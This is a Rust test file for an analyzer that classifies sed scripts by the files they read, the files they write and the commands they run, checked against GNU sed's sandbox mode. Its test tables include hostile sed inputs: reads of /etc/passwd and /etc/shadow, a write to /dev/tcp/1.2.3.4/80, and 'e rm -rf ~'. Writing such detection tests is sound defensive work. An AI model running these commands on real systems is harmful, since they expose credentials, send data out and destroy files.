//! sed scripts: what they read, write and run, checked by table and against GNU sed itself.

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

use tool_shell::lang::ScriptEffects;
use tool_shell::lang::sed::analyze;

use super::{Lcg, created_files, strs, unknown_mentions};

/// Scripts that only filter text (`r /dev/stdin` reads standard input, no file).
const READ_ONLY: &[&str] = &[
    "p",
    "1,20p",
    "s/a/b/g",
    "/re/d",
    "$!N",
    "y/abc/xyz/",
    "a\\\ntext",
    "a\\ text",
    "1i\\  indented",
    "$a\\\nline one\\\nline two",
    "a text; w /tmp/x",
    "i\\\nw /tmp/x\\\nr /etc/passwd",
    "c\\e id",
    ":a;N;$!ba;s/\\n/ /g",
    "s/[/]/X/",
    "s|[|]|X|p",
    "s/[]/]/X/",
    "s/[^]/]/X/",
    "s/[[:alpha:]/]/X/",
    "s/[[./.]]/X/",
    "s/a\\/b/c/",
    "s/a/\\//g",
    "s/x/a\\\nb/",
    "\\,foo,d",
    "\\%w /x%d",
    "0,/re/d",
    "1~2p",
    "2,+3p",
    "2,~4p",
    "/x/I,/y/Mp",
    "/x/ I p",
    "1!p",
    "1! p",
    "#n\np",
    "p # w /tmp/x",
    "p;# r /etc/passwd",
    "s/a/b/w /dev/stdout",
    "w /dev/stderr",
    "r /dev/stdin",
    "l 5",
    "l;l5",
    "q 3",
    "$Q",
    "=",
    "z;F",
    "v 4.2",
    "n;N;P;D;g;G;h;H;x",
    "s/a/b/3",
    "s/a/b/ g p",
    "s/a/b/I;s/c/d/M;s/e/f/m;s/g/h/i",
    "/x/{p;d}",
    "/x/{\np\n}",
    "1{/y/{s/a/b/};}",
    "y/\\//|/",
    "s/e/w/",
    "/w x/p",
    "s/w out/r in/",
    "/e id/p",
    "b end; s/a/b/; :end",
    "t;T;b",
    "s/x/y/;ta;s/z/w/;:a",
    "",
    "\n\n;;",
];

#[test]
fn accepts_scripts_that_only_filter_text() {
    for &script in READ_ONLY {
        let got = analyze(script, false);
        assert!(got.is_read_only(), "{script:?}: {got:?}");
        assert!(got.reads.is_empty(), "{script:?}: {got:?}");
        assert_eq!(analyze(script, true), got, "{script:?} under -E");
    }
}

#[test]
fn rejects_scripts_that_write_files() {
    let cases: [(&str, &[&str]); 20] = [
        ("1,1w/tmp/x", &["/tmp/x"]),
        ("w /tmp/x", &["/tmp/x"]),
        ("w  /tmp/x  ", &["/tmp/x  "]),
        ("s/a/b/w out", &["out"]),
        ("s/a/b/gw out", &["out"]),
        ("s/a/b/ w out", &["out"]),
        ("s|a|b|w /tmp/x", &["/tmp/x"]),
        ("$!{w out\n}", &["out"]),
        ("w /tmp/x; p", &["/tmp/x; p"]),
        ("p;w /tmp/x", &["/tmp/x"]),
        ("W /tmp/first", &["/tmp/first"]),
        ("s/[/]/x/w /tmp/y", &["/tmp/y"]),
        ("/[/]w/w /tmp/z", &["/tmp/z"]),
        ("a foo\nw /tmp/x", &["/tmp/x"]),
        ("a\\\nfoo\\\nbar\nw /tmp/x", &["/tmp/x"]),
        ("\\,a,w /tmp/x", &["/tmp/x"]),
        ("1{w /tmp/a\n};s/x/y/w /tmp/b", &["/tmp/a", "/tmp/b"]),
        ("y/a/b/;w /tmp/x", &["/tmp/x"]),
        ("b end; w /tmp/x\n:end", &["/tmp/x"]),
        (
            "s/a/b/w /dev/stdout\nw /dev/tcp/1.2.3.4/80",
            &["/dev/tcp/1.2.3.4/80"],
        ),
    ];
    for (script, writes) in cases {
        let got = analyze(script, false);
        assert_eq!(got.writes, strs(writes), "{script:?}: {got:?}");
        assert!(!got.is_read_only(), "{script:?}");
        assert!(got.unknown.is_empty(), "{script:?}: {got:?}");
    }
}

#[test]
fn reports_the_files_a_script_reads() {
    let cases: [(&str, &[&str]); 7] = [
        ("r/etc/passwd", &["/etc/passwd"]),
        ("r /etc/passwd", &["/etc/passwd"]),
        ("1r /etc/passwd;p", &["/etc/passwd;p"]),
        ("0r /etc/hosts", &["/etc/hosts"]),
        ("R /etc/hosts", &["/etc/hosts"]),
        ("a\\\nfoo\nr /etc/shadow", &["/etc/shadow"]),
        ("/x/{r a\n}\n$R b", &["a", "b"]),
    ];
    for (script, reads) in cases {
        let got = analyze(script, false);
        assert_eq!(got.reads, strs(reads), "{script:?}: {got:?}");
        assert!(
            got.writes.is_empty() && got.exec_strings.is_empty(),
            "{script:?}"
        );
        assert!(got.unknown.is_empty(), "{script:?}: {got:?}");
        // Reading is still read-only; the caller checks the paths.
        assert!(got.is_read_only(), "{script:?}");
    }
}

#[test]
fn rejects_scripts_that_run_commands() {
    let cases: [(&str, &str); 9] = [
        ("e id", "id"),
        ("1e touch /tmp/p", "touch /tmp/p"),
        ("1e;echo hi", ";echo hi"),
        ("$e id; p", "id; p"),
        ("e echo \\x41", "echo A"),
        ("e\\x65cho X", "x65cho X"),
        ("e echo a\\\nrm x", "echo a\nrm x"),
        ("/a/{e id\n}", "id"),
        ("a x\ne rm -rf ~", "rm -rf ~"),
    ];
    for (script, command) in cases {
        let got = analyze(script, false);
        assert_eq!(got.exec_strings, strs(&[command]), "{script:?}: {got:?}");
        assert!(!got.is_read_only(), "{script:?}");
    }
}

#[test]
fn rejects_scripts_that_run_the_pattern_space() {
    for script in [
        "s/x/id/e",
        "s/x/id/ge",
        "s/x/id/e w out",
        "e",
        "1e",
        "1{e\n}",
        "$!e",
    ] {
        let got = analyze(script, false);
        assert!(
            unknown_mentions(&got, "pattern space"),
            "{script:?}: {got:?}"
        );
        assert!(!got.is_read_only(), "{script:?}");
    }
}

/// Scripts GNU sed refuses to compile.
const MALFORMED: &[&str] = &[
    "s/a/b",
    "s/a/b/x",
    "s/[/x/",
    "s/[[:/]/x/",
    "{p",
    "p}",
    "1}",
    "k",
    "w",
    "r ",
    "1,p",
    "1!!p",
    "p x",
    "1#c",
    "1:a",
    ":",
    "y/abc/xyz",
    "s\u{e9}a\u{e9}b\u{e9}",
    "1{w /tmp/x}",
    "/x/",
];

#[test]
fn rejects_scripts_that_do_not_parse() {
    for &script in MALFORMED {
        let got = analyze(script, false);
        assert!(
            unknown_mentions(&got, "does not parse"),
            "{script:?}: {got:?}"
        );
        assert!(!got.is_read_only(), "{script:?}");
    }
}

/// Pieces the differential test joins into scripts: commands with no effect, and commands
/// GNU sed's `--sandbox` refuses. File names are relative, for the runs in a temp dir.
const PURE: [&str; 34] = [
    "p",
    "1,20p",
    "s/a/b/g",
    "/re/d",
    "$!N",
    "y/abc/xyz/",
    "s/[/]/X/",
    "s|[|]|X|p",
    "\\,x,p",
    "1~2p",
    "2,+1p",
    "0,/a/p",
    "/a/I,/b/Mp",
    "1!p",
    "l",
    "=",
    "x;G",
    "z",
    "F",
    "a text w x",
    "i\\\nline r y\\\ntwo",
    "s/w/r/",
    "/e/p",
    "# comment w x",
    "s/a\\/b/c/",
    "/[[:alpha:]]/p",
    "y/\\//|/",
    "s/x/a\\\nb/",
    "{p}",
    "1{p;d}",
    "s/a/b/w /dev/stdout",
    "\\%w x%p",
    "s/[[./.]]/Q/2",
    "1,3{/a/I!{s/b/c/gp\n}}",
];
const EFFECT: [&str; 13] = [
    "w out1",
    "1,1w out2",
    "r in1",
    "R in1",
    "W out3",
    "s/a/b/w out4",
    "s/a/b/e",
    "e true",
    "1e true",
    "e",
    "$!{w out5\n}",
    "s|a|b|w out6",
    "/[/]w/w out7",
];
const SEPARATORS: [&str; 5] = [";", "\n", " ; ", "\n\n", ";\n"];

fn generated_scripts() -> Vec<String> {
    let mut rng = Lcg(0x5eed);
    let mut scripts: Vec<String> = READ_ONLY
        .iter()
        .chain(MALFORMED.iter())
        .chain(PURE.iter())
        .chain(EFFECT.iter())
        .map(|s| (*s).to_owned())
        .collect();
    for _ in 0..120 {
        let n = 1 + rng.below(3);
        let mut script = String::new();
        for i in 0..n {
            if i > 0 {
                script.push_str(rng.pick(&SEPARATORS));
            }
            let piece = if rng.below(3) == 0 {
                rng.pick(&EFFECT)
            } else {
                rng.pick(&PURE)
            };
            script.push_str(piece);
        }
        match rng.below(4) {
            0 => script = format!("/a/{{{script}\n}}"),
            1 => script = format!("1,2{{{script};}}"),
            _ => {}
        }
        scripts.push(script);
    }
    scripts
}

fn gnu_sed() -> Option<String> {
    let out = Command::new("sed").arg("--version").output().ok()?;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.contains("GNU sed").then_some(text)
}

fn run_sed(dir: &Path, sandbox: bool, script: &str) -> std::process::Output {
    let mut cmd = Command::new("sed");
    if sandbox {
        cmd.arg("--sandbox");
    }
    cmd.args(["-n", "-e", script, "input.txt"])
        .current_dir(dir)
        .output()
        .expect("run sed")
}

fn has_effect(got: &ScriptEffects) -> bool {
    !(got.reads.is_empty() && got.writes.is_empty() && got.exec_strings.is_empty())
        || unknown_mentions(got, "pattern space")
}

/// GNU sed `--sandbox` refuses exactly the `e`, `r`/`R`, `w`/`W` and `s///e`/`s///w`
/// commands, so it says for every generated script whether the parser found all of them
/// (and, with its parse errors, whether the parser read the script the same way).
#[test]
fn agrees_with_gnu_sed_sandbox() {
    if gnu_sed().is_none() {
        eprintln!("skipped: `sed` is not GNU sed, which has --sandbox");
        return;
    }
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("input.txt"), "a/b\nxyz\nw ab\n").expect("input");
    let scripts = generated_scripts();
    let (mut pure, mut effect, mut broken) = (0, 0, 0);
    for script in &scripts {
        let got = analyze(script, false);
        let out = run_sed(dir.path(), true, script);
        let stderr = String::from_utf8_lossy(&out.stderr);
        let parse_failed = unknown_mentions(&got, "does not parse");
        if parse_failed {
            broken += 1;
            assert!(
                !out.status.success(),
                "{script:?}: sed accepts what the parser refuses"
            );
        } else if has_effect(&got) {
            effect += 1;
            assert!(
                stderr.contains("disabled in sandbox mode"),
                "{script:?}: {got:?} but sandboxed sed says {stderr:?}"
            );
        } else if script.contains("/dev/std") {
            // GNU sed's sandbox refuses `w /dev/stdout` although it writes no file.
            pure += 1;
            assert!(
                stderr.contains("disabled in sandbox mode"),
                "{script:?}: {stderr:?}"
            );
        } else {
            pure += 1;
            assert!(got.is_read_only(), "{script:?}: {got:?}");
            // Success, or the exit code of `q N` (sed's own errors are 1 and 4, with a message).
            assert!(
                stderr.is_empty() && !matches!(out.status.code(), Some(1 | 4) | None),
                "{script:?}: sandboxed sed fails: {stderr:?}"
            );
        }
    }
    eprintln!("sed differential: {pure} read-only, {effect} with effects, {broken} refused");
    assert!(pure > 20 && effect > 20, "the generator lost a direction");
}

/// For scripts that only write (no command execution), GNU sed run for real in a temp dir
/// creates exactly the files the parser names.
#[test]
fn names_the_files_gnu_sed_creates() {
    if gnu_sed().is_none() {
        eprintln!("skipped: `sed` is not GNU sed");
        return;
    }
    let mut checked = 0;
    for script in generated_scripts() {
        let got = analyze(&script, false);
        if got.writes.is_empty() || !got.exec_strings.is_empty() || !got.unknown.is_empty() {
            continue;
        }
        // Only plain names, which land in the temp dir (`w /dev/stdout;` names a file).
        if got.writes.iter().any(|w| w.contains('/')) {
            continue;
        }
        let dir = tempfile::tempdir().expect("temp dir");
        std::fs::write(dir.path().join("input.txt"), "a/b\nxyz\n").expect("input");
        let out = run_sed(dir.path(), false, &script);
        assert!(out.status.success(), "{script:?}: {out:?}");
        let created = created_files(dir.path());
        let named: BTreeSet<String> = got.writes.iter().cloned().collect();
        assert_eq!(created, named, "{script:?}");
        checked += 1;
    }
    eprintln!("sed write differential: {checked} scripts");
    assert!(checked > 10, "too few writing scripts generated");
}

/// `e COMMAND` hands GNU sed's unescaped text to the shell: run it and see it is ours.
#[test]
fn exec_strings_are_what_gnu_sed_runs() {
    if gnu_sed().is_none() {
        eprintln!("skipped: `sed` is not GNU sed");
        return;
    }
    for script in [
        "1e echo \\x41\\tB",
        "1e printf %s one\\\necho two",
        "1e echo \\d066;echo C",
    ] {
        let got = analyze(script, false);
        assert_eq!(got.exec_strings.len(), 1, "{script:?}: {got:?}");
        let dir = tempfile::tempdir().expect("temp dir");
        std::fs::write(dir.path().join("input.txt"), "x\n").expect("input");
        let sed = run_sed(dir.path(), false, script);
        let sh = Command::new("sh")
            .args(["-c", &got.exec_strings[0]])
            .output()
            .expect("run sh");
        assert_eq!(
            String::from_utf8_lossy(&sed.stdout),
            String::from_utf8_lossy(&sh.stdout),
            "{script:?}"
        );
    }
}
